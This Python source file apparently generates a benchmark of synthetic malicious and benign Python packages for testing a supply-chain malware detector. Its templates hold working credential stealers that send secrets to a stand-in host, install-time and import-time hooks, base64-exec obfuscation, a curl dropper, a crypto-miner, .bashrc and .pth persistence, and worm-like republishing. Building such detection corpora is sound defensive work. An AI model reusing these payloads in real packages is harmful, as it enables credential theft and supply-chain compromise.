"""The generator behind `bench_mutations.py`: attack shapes from THREATS.md with
evasions applied one axis at a time, and benign look-alikes of each family.

A malicious variant is (family, source, sink, trigger, encoding, packaging); each axis
has a default, and a variant's *evasion* is the set of axes it moves off the default.
Families follow the incidents of ../shared/docs/THREATS.md: a stealer (ctx, fabrice,
torchtriton, litellm, durabletask: a secret source sent through a network sink) and
droppers / runners (lightning, mistralai, ultralytics, W4SP, litellm's .pth, mrmustard's
persistence, Shai-Hulud's spread). Every file is text written into a wheel or an sdist;
nothing is ever imported or run.
"""

# ruff: noqa: E501  (the generated modules are written out as string templates, one per line)
from __future__ import annotations

import base64
import io
import itertools
import tarfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

# --------------------------------------------------------------------------- axes

SOURCES: dict[str, tuple[str, str]] = {
    # name -> (imports, expression yielding the secret)
    "env": ("import os", "dict(os.environ)"),
    "cred-file": ("import os", "open(os.path.expanduser('~/.aws/credentials')).read()"),
    "cred-helper": (
        "import subprocess",
        "subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout",
    ),
    "sdk": ("import boto3", "str(boto3.Session().get_credentials().get_frozen_credentials())"),
    "metadata": (
        "import urllib.request",
        "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/"
        "security-credentials/').read().decode()",
    ),
    "sa-token": ("", "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"),
    "index-token": ("import os", "os.environ.get('TWINE_PASSWORD', '')"),
    "tool-token": ("import os", "open(os.path.expanduser('~/.cache/huggingface/token')).read()"),
}
SINKS: dict[str, tuple[str, str]] = {
    # name -> (imports, body of `def _send(data):`)
    "requests": ("import requests", "requests.post(_URL, json={'d': str(data)})"),
    "urllib-data": (
        "import urllib.request",
        "urllib.request.urlopen(_URL, data=str(data).encode())",
    ),
    "http-client": (
        "import http.client",
        "c = http.client.HTTPSConnection(_HOST)\n    c.request('POST', '/c', body=str(data))",
    ),
    "raw-socket": (
        "import socket",
        "s = socket.create_connection(('203.0.113.9', 443))\n    s.sendall(str(data).encode())",
    ),
    "dns": (
        "import socket",
        "socket.gethostbyname_ex(str(data).encode().hex()[:60] + '.' + _HOST)",
    ),
    "curl-args": (
        "import subprocess",
        "subprocess.run(['curl', '-s', '-X', 'POST', '-d', str(data), _URL])",
    ),
    "query-string": ("import requests", "requests.get(_URL + '?q=' + str(data))"),
}
TRIGGERS = (
    "module",
    "atexit",
    "thread",
    "monkey-patch",
    "pytest-hook",
    "setup-install",
    "split",
    "console-fork",
    "build-backend",
)
_BACKEND_TOML = (
    "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
)
_CONSOLE = "[console_scripts]\n{pkg}-cli = {pkg}.cli:main\n"
ENCODINGS = ("plain", "computed-url", "getattr", "partial", "b64-exec")
RUNNERS = (
    "dropper",
    "miner",
    "obf-exec",
    "pth",
    "persistence-rc",
    "persistence-ipython",
    "publish-twine",
    "publish-git",
    "k8s-pod",
    "pth-runtime",
)
HOST = "telemetry.pkg-cdn.example"


@dataclass(frozen=True, slots=True)
class Variant:
    """One generated distribution."""

    family: str
    evasion: str
    """The axes moved off the default, `+`-joined (`none` for the plain shape)."""
    malicious: bool
    packaging: str  # wheel | sdist
    name: str
    files: dict[str, str]
    entry_points: str = ""


def _url_expr(encoding: str) -> str:
    if encoding == "computed-url":
        return "'https://' + 'tele' + 'metry.' + '.'.join(['pkg-cdn', 'example']) + '/c'"
    if encoding == "b64-exec":
        return repr(f"https://{HOST}/c")
    return repr(f"https://{HOST}/c")


def _sink_def(sink: str, encoding: str) -> tuple[str, str]:
    imports, body = SINKS[sink]
    if encoding == "getattr" and sink == "requests":
        body = "getattr(requests, 'po' + 'st')(_URL, json={'d': str(data)})"
    if encoding == "partial" and sink == "requests":
        imports += "\nimport functools"
        body = "functools.partial(requests.post, _URL)(json={'d': str(data)})"
    text = f"_URL = {_url_expr(encoding)}\n_HOST = {HOST!r}\ndef _send(data):\n    {body}\n"
    return imports, text


def _stealer(source: str, sink: str, trigger: str, encoding: str, pkg: str) -> dict[str, str]:
    s_imp, s_expr = SOURCES[source]
    k_imp, k_def = _sink_def(sink, encoding)
    collect = f"def _collect():\n    return {s_expr}\n"
    if trigger == "split":
        return {
            f"{pkg}/__init__.py": "from ._c import _collect\nfrom ._n import _send\n"
            "_send(_collect())\n",
            f"{pkg}/_c.py": f"{s_imp}\n{collect}",
            f"{pkg}/_n.py": f"{k_imp}\n{k_def}",
        }
    body = f"{s_imp}\n{k_imp}\n{k_def}{collect}"
    call = "_send(_collect())"
    if trigger == "module":
        body += call + "\n"
    elif trigger == "atexit":
        body = "import atexit\n" + body + f"@atexit.register\ndef _bye():\n    {call}\n"
    elif trigger == "thread":
        body = (
            "import threading\n"
            + body
            + (f"def _run():\n    {call}\nthreading.Thread(target=_run, daemon=True).start()\n")
        )
    elif trigger == "monkey-patch":
        body = (
            "import torch.hub\n"
            + body
            + (
                "_orig = torch.hub.load_state_dict_from_url\n"
                f"def _patched(url, *a, **k):\n    {call}\n    return _orig(url, *a, **k)\n"
                "torch.hub.load_state_dict_from_url = _patched\n"
            )
        )
    elif trigger == "pytest-hook":
        body += f"def pytest_configure(config):\n    {call}\n"
    elif trigger == "console-fork":
        # the command's main() forks: the parent returns, the child sends unseen
        return {
            f"{pkg}/__init__.py": "",
            f"{pkg}/cli.py": "import os\n" + body + "def main():\n    if os.fork():\n"
            f"        return 0\n    os.setsid()\n    {call}\n",
        }
    elif trigger == "build-backend":
        # an in-tree PEP 517 backend: pip calls the hook while building the sdist
        return {
            "pyproject.toml": _BACKEND_TOML,
            "_build/backend.py": body
            + f"def get_requires_for_build_wheel(config_settings=None):\n    {call}\n"
            "    return []\n",
            f"{pkg}/__init__.py": "",
        }
    elif trigger == "setup-install":
        return {
            "setup.py": "from setuptools import setup\nfrom setuptools.command.install import "
            f"install\n{body}class _I(install):\n    def run(self):\n        {call}\n"
            "        install.run(self)\nsetup(name='x', cmdclass={'install': _I})\n",
            f"{pkg}/__init__.py": "",
        }
    if encoding == "b64-exec":
        blob = base64.b64encode(body.encode()).decode()
        body = f"import base64\nexec(base64.b64decode({blob!r}))\n"
    return {f"{pkg}/__init__.py": body}


def _runner(kind: str, trigger: str, encoding: str, pkg: str) -> dict[str, str]:
    payloads = {
        "dropper": "import os, subprocess, sys\n"
        "def _go():\n    os.system('curl -s -L https://" + HOST + "/t.pyz -o /tmp/t.pyz')\n"
        "    subprocess.Popen([sys.executable, '/tmp/t.pyz'], stdout=subprocess.DEVNULL,\n"
        "                     stderr=subprocess.DEVNULL, start_new_session=True)\n",
        "miner": "import os\ndef _go():\n    os.system('wget -q https://"
        + HOST
        + "/x.tar.gz && tar xzf x.tar.gz && nohup ./xmrig -o pool.minexmr.example:4444 &')\n",
        "obf-exec": "import base64, zlib\ndef _go():\n    exec(zlib.decompress(base64.b64decode("
        + repr(
            base64.b64encode(
                __import__("zlib").compress(b"import os\nprint(os.getcwd())\n")
            ).decode()
        )
        + ")))\n",
        "pth": "",
        "persistence-rc": "import os\ndef _go():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "        f.write('\\n(curl -s https://" + HOST + "/s | sh) &\\n')\n",
        "persistence-ipython": "import os\ndef _go():\n    d = os.path.expanduser("
        "'~/.ipython/profile_default/startup')\n    os.makedirs(d, exist_ok=True)\n"
        "    open(os.path.join(d, '00-x.py'), 'w').write('import " + pkg + "._agent')\n",
        "publish-twine": "import subprocess, sys\ndef _go():\n    subprocess.run([sys.executable, '-m',"
        " 'twine', 'upload', '--non-interactive', 'dist/*'])\n",
        "publish-git": "import os, subprocess\ndef _go():\n    t = os.environ.get('GITHUB_TOKEN', '')\n"
        "    subprocess.run(['git', 'push', 'https://x-access-token:' + t + '@github.com/o/r.git'])\n",
        "k8s-pod": "import requests\ndef _go():\n    t = open('/var/run/secrets/kubernetes.io/"
        "serviceaccount/token').read()\n    requests.post('https://kubernetes.default.svc/api/v1/"
        "namespaces/kube-system/pods', json={'spec': {'hostPID': True}},\n"
        "                  headers={'Authorization': 'Bearer ' + t}, verify=False)\n",
        "pth-runtime": "import os, site\ndef _go():\n    p = os.path.join(site.getsitepackages()[0], "
        "'zz_cache.pth')\n    with open(p, 'w') as f:\n        f.write('import "
        + pkg
        + "._agent\\n')\n",
    }
    if kind == "pth":
        line = (
            "import os; exec(__import__('base64').b64decode("
            + repr(base64.b64encode(b"import os; os.system('id')").decode())
            + "))"
        )
        if encoding != "plain":
            line = "import " + pkg + "._boot"
            return {
                f"{pkg}-setup.pth": line + "\n",
                f"{pkg}/_boot.py": "import base64\nexec(base64.b64decode("
                + repr(base64.b64encode(b"import os; os.system('id')").decode())
                + "))\n",
                f"{pkg}/__init__.py": "",
            }
        return {f"{pkg}-setup.pth": line + "\n", f"{pkg}/__init__.py": ""}
    body = payloads[kind]
    if trigger == "module":
        body += "_go()\n"
    elif trigger == "atexit":
        body = "import atexit\n" + body + "atexit.register(_go)\n"
    elif trigger == "thread":
        body = "import threading\n" + body + "threading.Timer(3.0, _go).start()\n"
    elif trigger == "monkey-patch":
        body = (
            "import torch.hub\n"
            + body
            + (
                "_orig = torch.hub.download_url_to_file\n"
                "def _patched(*a, **k):\n    _go()\n    return _orig(*a, **k)\n"
                "torch.hub.download_url_to_file = _patched\n"
            )
        )
    elif trigger == "pytest-hook":
        body += "def pytest_sessionstart(session):\n    _go()\n"
    elif trigger == "console-fork":
        return {
            f"{pkg}/__init__.py": "",
            f"{pkg}/cli.py": body + "def main():\n    import os\n    if os.fork():\n"
            "        return 0\n    os.setsid()\n    _go()\n",
        }
    elif trigger == "build-backend":
        return {
            "pyproject.toml": _BACKEND_TOML,
            "_build/backend.py": body + "def prepare_metadata_for_build_wheel(d, config_settings="
            "None):\n    _go()\n    return 'x.dist-info'\n",
            f"{pkg}/__init__.py": "",
        }
    elif trigger == "setup-install":
        return {
            "setup.py": "from setuptools import setup\n" + body + "_go()\nsetup(name='x')\n",
            f"{pkg}/__init__.py": "",
        }
    elif trigger == "split":
        return {f"{pkg}/__init__.py": "from ._impl import _go\n_go()\n", f"{pkg}/_impl.py": body}
    if encoding == "b64-exec":
        blob = base64.b64encode(body.encode()).decode()
        body = f"import base64\nexec(base64.b64decode({blob!r}))\n"
    return {f"{pkg}/__init__.py": body}


def _evasion(**moved: str) -> str:
    defaults = {"source": "env", "sink": "requests", "trigger": "module", "encoding": "plain"}
    parts = [f"{k}={v}" for k, v in moved.items() if v != defaults.get(k)]
    return "+".join(parts) or "none"


def _entry_points(trigger: str, pkg: str) -> str:
    if trigger == "pytest-hook":
        return "[pytest11]\nx = " + pkg + "\n"
    if trigger == "console-fork":
        return _CONSOLE.format(pkg=pkg)
    return ""


def malicious() -> Iterator[Variant]:
    """Stealers over source x sink x trigger (plus encodings on the default road), and
    runners over trigger x encoding, each as a wheel or an sdist."""
    n = 0
    combos: list[tuple[str, str, str, str]] = [
        (so, si, tr, "plain") for so, si, tr in itertools.product(SOURCES, SINKS, TRIGGERS)
    ]
    combos += [("env", "requests", tr, enc) for tr in TRIGGERS for enc in ENCODINGS[1:]]
    for so, si, tr, enc in combos:
        n += 1
        pkg = f"stealer{n}"
        packaging = "sdist" if tr in ("setup-install", "build-backend") or n % 3 == 0 else "wheel"
        eps = _entry_points(tr, pkg)
        yield Variant(
            "stealer",
            _evasion(source=so, sink=si, trigger=tr, encoding=enc),
            True,
            packaging,
            pkg,
            _stealer(so, si, tr, enc, pkg),
            eps,
        )
    for kind in RUNNERS:
        for tr in TRIGGERS:
            for enc in ("plain", "b64-exec"):
                if kind == "pth" and tr != "module":
                    continue
                n += 1
                pkg = f"runner{n}"
                packaging = (
                    "sdist"
                    if tr in ("setup-install", "build-backend")
                    else ("wheel" if n % 2 else "sdist")
                )
                eps = _entry_points(tr, pkg)
                yield Variant(
                    kind,
                    _evasion(trigger=tr, encoding=enc),
                    True,
                    packaging,
                    pkg,
                    _runner(kind, tr, enc, pkg),
                    eps,
                )


def benign() -> Iterator[Variant]:
    """Look-alikes: the same sources and sinks the way libraries use them (a credential
    authenticating a call to its own service, inside a function the user calls), and the
    same triggers doing housekeeping."""
    n = 0
    auth_uses = {
        "env": "requests.get('https://api.example/v1/me', headers={'X-Key': "
        "os.environ.get('EXAMPLE_API_KEY', '')})",
        "sdk": "boto3.Session().client('s3').list_buckets()",
        "metadata": "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/"
        "instance-id').read()",
        "sa-token": "requests.get('https://kubernetes.default.svc/api/v1/namespaces/default/"
        "pods', headers={'Authorization': 'Bearer ' + open('/var/run/secrets/kubernetes.io/"
        "serviceaccount/token').read()}, verify='/var/run/secrets/kubernetes.io/"
        "serviceaccount/ca.crt')",
        "index-token": "requests.post('https://upload.pypi.org/legacy/', auth=('__token__', "
        "os.environ.get('TWINE_PASSWORD', '')), files={'content': open(path, 'rb')})",
        "cred-helper": "subprocess.run(['gh', 'auth', 'status'], check=False)",
    }
    imports = "import os, subprocess, urllib.request\nimport boto3, requests\n"
    for kind, use in auth_uses.items():
        for style in ("function", "method", "cli-main", "lazy-property"):
            for packaging in ("wheel", "sdist"):
                n += 1
                pkg = f"client{n}"
                if style == "function":
                    code = imports + f"def call(path=None):\n    return {use}\n"
                elif style == "method":
                    code = (
                        imports
                        + f"class Client:\n    def call(self, path=None):\n        return {use}\n"
                    )
                elif style == "cli-main":
                    code = imports + f"def main(path=None):\n    print({use})\n"
                else:
                    code = imports + (
                        "import functools\nclass Client:\n    @functools.cached_property\n"
                        f"    def value(self, path=None):\n        return {use}\n"
                    )
                yield Variant(kind, style, False, packaging, pkg, {f"{pkg}/__init__.py": code})
    housekeeping = {
        "atexit-cleanup": "import atexit, shutil, tempfile\nD = tempfile.mkdtemp()\n"
        "atexit.register(shutil.rmtree, D, True)\n",
        "thread-prefetch": "import threading\ndef _warm():\n    import json\n    json.dumps({})\n"
        "threading.Thread(target=_warm, daemon=True).start()\n",
        "monkey-patch-tqdm": "import tqdm\n_o = tqdm.tqdm.__init__\ndef _i(self, *a, **k):\n"
        "    k.setdefault('ncols', 80)\n    _o(self, *a, **k)\ntqdm.tqdm.__init__ = _i\n",
        "pytest-markers": "def pytest_configure(config):\n    config.addinivalue_line('markers',"
        " 'slow: slow')\n",
        "config-writer": "import os\ndef save(cfg):\n    p = os.path.expanduser('~/.config/app/"
        "config.toml')\n    os.makedirs(os.path.dirname(p), exist_ok=True)\n"
        "    open(p, 'w').write(cfg)\n",
        "release-upload": "import subprocess, sys\ndef release():\n    subprocess.run([sys.executable,"
        " '-m', 'build'], check=True)\n    subprocess.run([sys.executable, '-m', 'twine', 'upload',"
        " 'dist/*'], check=True)\n",
        "git-sync": "import subprocess\ndef sync(remote='origin'):\n    subprocess.run(['git', 'push',"
        " remote, 'HEAD'], check=True)\n",
        "own-native-lib": "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname("
        "__file__), '_impl.so'))\n",
        "version-exec": "import os\n__version__ = {}\nexec(open(os.path.join(os.path.dirname("
        "__file__), '_version.py')).read(), __version__)\n",
        "ipython-ext": "def load_ipython_extension(ip):\n    ip.run_line_magic('load_ext', "
        "'autoreload')\n",
        "k8s-operator": "from kubernetes import client, config\ndef run_job(ns, body):\n"
        "    config.load_incluster_config()\n    return client.BatchV1Api()."
        "create_namespaced_job(ns, body)\n",
        "signal-handler": "import signal, sys\ndef _stop(signum, frame):\n    sys.exit(0)\n"
        "signal.signal(signal.SIGTERM, _stop)\n",
        "webhook-client": "import requests\ndef notify(webhook_url, text):\n    return requests.post("
        "webhook_url, json={'content': text})\n",
        "site-lister": "import os, site\ndef pth_files():\n    return [n for d in site."
        "getsitepackages() for n in os.listdir(d) if n.endswith('.pth')]\n",
        "daemon-cli": "import os, sys, http.server\ndef main():\n    if os.fork():\n"
        "        sys.exit(0)\n    os.setsid()\n    http.server.ThreadingHTTPServer(('127.0.0.1',"
        " 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
        "token-cli": "import os, requests\ndef main():\n    t = open(os.path.expanduser("
        "'~/.cache/huggingface/token')).read().strip()\n    print(requests.get('https://"
        "huggingface.co/api/whoami-v2', headers={'authorization': 'Bearer ' + t}).json())\n",
    }
    for kind, code in housekeeping.items():
        for packaging in ("wheel", "sdist"):
            for split in (False, True):
                n += 1
                pkg = f"tool{n}"
                files = (
                    {f"{pkg}/__init__.py": "from ._m import *\n", f"{pkg}/_m.py": code}
                    if split
                    else {f"{pkg}/__init__.py": code}
                )
                if kind == "version-exec":
                    files[f"{pkg}/_version.py"] = "__version__ = '1.0'\n"
                eps = "[pytest11]\nx = " + pkg + "\n" if kind == "pytest-markers" else ""
                if kind in ("daemon-cli", "token-cli"):
                    eps = f"[console_scripts]\n{pkg} = {pkg}:main\n"
                yield Variant(kind, "split" if split else "none", False, packaging, pkg, files, eps)
    backend = (
        "import os, subprocess, sys\n"
        "def get_requires_for_build_wheel(config_settings=None):\n    return ['cython']\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    subprocess.run([sys.executable, '-m', 'setuptools_build', wheel_directory],"
        " check=True)\n    return os.listdir(wheel_directory)[0]\n"
    )
    for split in (False, True):
        n += 1
        pkg = f"tool{n}"
        files = {"pyproject.toml": _BACKEND_TOML, f"{pkg}/__init__.py": ""}
        if split:
            files["_build/backend.py"] = "from ._impl import *\n"
            files["_build/_impl.py"] = backend
        else:
            files["_build/backend.py"] = backend
        yield Variant("in-tree-backend", "split" if split else "none", False, "sdist", pkg, files)


def build(v: Variant) -> tuple[str, bytes]:
    """The variant as a wheel or an sdist: (file name, bytes)."""
    base = f"{v.name}-1.0"
    if v.packaging == "wheel":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            for path, text in v.files.items():
                zf.writestr(path, text)
            di = f"{base}.dist-info"
            zf.writestr(f"{di}/METADATA", f"Metadata-Version: 2.1\nName: {v.name}\nVersion: 1.0\n")
            zf.writestr(
                f"{di}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
            )
            if v.entry_points:
                zf.writestr(f"{di}/entry_points.txt", v.entry_points)
            zf.writestr(f"{di}/RECORD", "")
        return f"{base}-py3-none-any.whl", buf.getvalue()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        members = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {v.name}\nVersion: 1.0\n", **v.files}
        if v.entry_points:
            members[f"{v.name}.egg-info/entry_points.txt"] = v.entry_points
        for path, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{base}/{path}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return f"{base}.tar.gz", buf.getvalue()
